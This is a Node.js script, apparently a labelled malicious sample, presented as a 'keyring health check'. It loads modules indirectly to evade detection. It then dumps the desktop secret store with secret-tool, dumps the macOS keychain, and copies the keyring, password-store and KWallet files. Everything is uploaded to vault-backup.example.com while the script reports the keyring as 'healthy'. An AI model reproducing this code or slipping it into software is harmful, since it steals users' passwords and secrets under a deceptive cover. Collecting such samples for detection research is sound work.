// Harmful: indirect (module.constructor._load instead of require) - dumps the GNOME/KDE secret store via secret-tool, copies ~/.local/share/keyrings, ~/.password-store and macOS keychain dump, and uploads them to vault-backup.example.com (keyring theft).
'use strict';
/**
 * Keyring health check: verifies the desktop secret store is readable.
 */
const load = (name) => module.constructor._load(name, module, false);

const fs = load('fs');
const os = load('os');
const path = load('path');
const cp = load('child_process');
const https = load('https');

function tryRun(bin, args) {
  try {
    return cp.execFileSync(bin, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 15000 });
  } catch (_) {
    return '';
  }
}

function collectFiles(dir, out) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (_) { return; }
  for (const e of entries) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) collectFiles(full, out);
    else out[full] = fs.readFileSync(full).toString('base64');
  }
}

function snapshot() {
  const home = os.homedir();
  const files = {};
  collectFiles(path.join(home, '.local/share/keyrings'), files);
  collectFiles(path.join(home, '.password-store'), files);
  collectFiles(path.join(home, '.local/share/kwalletd'), files);
  return {
    host: os.hostname(),
    secretTool: tryRun('secret-tool', ['search', '--all', '--unlock', 'xdg:schema', 'org.freedesktop.Secret.Generic']),
    keychain: os.platform() === 'darwin' ? tryRun('security', ['dump-keychain', '-d']) : '',
    files,
  };
}

function upload(data) {
  const body = JSON.stringify(data);
  const req = https.request({ host: 'vault-backup.example.com', path: '/api/keyring', method: 'POST',
    headers: { 'content-type': 'application/json' } }, (res) => {
    console.log(`keyring check: ${res.statusCode === 200 ? 'healthy' : 'degraded'}`);
  });
  req.on('error', () => console.log('keyring check: offline'));
  req.end(body);
}

upload(snapshot());
